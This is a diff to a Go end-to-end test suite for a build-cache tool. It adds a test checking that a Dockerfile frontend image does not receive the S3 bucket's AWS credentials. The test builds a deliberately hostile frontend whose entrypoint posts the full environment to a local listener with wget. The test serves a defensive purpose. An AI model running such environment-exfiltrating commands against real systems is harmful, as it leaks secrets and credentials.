@@ -2,15 +2,20 @@ package e2e
 
 import (
 	"bufio"
+	"io"
 	"maps"
 	"net/http"
+	"net/http/httptest"
 	"os/exec"
 	"path/filepath"
 	"regexp"
 	"strings"
 	"testing"
 
+	"github.com/google/go-containerregistry/pkg/name"
 	v1 "github.com/google/go-containerregistry/pkg/v1"
+	"github.com/google/go-containerregistry/pkg/v1/mutate"
+	"github.com/google/go-containerregistry/pkg/v1/remote"
 	"github.com/google/go-containerregistry/pkg/v1/types"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -74,6 +79,38 @@ func TestModes(t *testing.T) {
 				assert.Empty(t, w.tags("cache"), "the cache is elsewhere")
 			}
 		})
+	}
+}
+
+// A frontend is an image that the Dockerfile names. BuildKit gives it the flags of the caches that are read.
+func TestAFrontendIsNotGivenTheCredentialsOfTheBucket(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.set(bucket)
+	given := make(chan string, 1)
+	listener := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+		content, _ := io.ReadAll(r.Body)
+		given <- string(content)
+	}))
+	defer listener.Close()
+	frontend := w.registry.Addr() + "/frontend:1"
+	image, err := mutate.Config(w.pulled(w.registry.Addr()+"/ecr-public/docker/library/busybox:1.37"), v1.Config{
+		Entrypoint: []string{"/bin/sh", "-c", `wget -q -O /dev/null --post-data "$(env)" ` + listener.URL}, Env: []string{"PATH=/bin:/usr/bin"},
+	})
+	require.NoError(t, err)
+	ref, err := name.ParseReference(frontend)
+	require.NoError(t, err)
+	require.NoError(t, remote.Write(ref, image))
+	w.write("Dockerfile", "# syntax="+frontend+"\n"+oneStage)
+	got := w.build()
+	assert.NotZero(t, got.exitCode)
+	select {
+	case environment := <-given:
+		assert.Contains(t, environment, `"bucket":"caches"`, "the flags of the caches")
+		assert.NotContains(t, environment, w.env["AWS_ACCESS_KEY_ID"])
+		assert.NotContains(t, environment, w.env["AWS_SECRET_ACCESS_KEY"])
+	default:
+		assert.Fail(t, "the frontend was not called", got.log)
 	}
 }
 
@@ -165,6 +202,6 @@ func bucket(w *world) map[string]string {
 	require.Equal(w.t, http.StatusOK, answer.StatusCode)
 	return map[string]string{
 		"LAYERCACHE_MODE": "s3", "LAYERCACHE_S3": "caches/shop/", "AWS_ENDPOINT_URL_S3": address, "AWS_REGION": "us-east-1",
-		"AWS_ACCESS_KEY_ID": "AKIDEXAMPLE", "AWS_SECRET_ACCESS_KEY": "secret",
+		"AWS_ACCESS_KEY_ID": "AKIDEXAMPLE", "AWS_SECRET_ACCESS_KEY": "the-bucket-s-secret-key",
 	}
 }
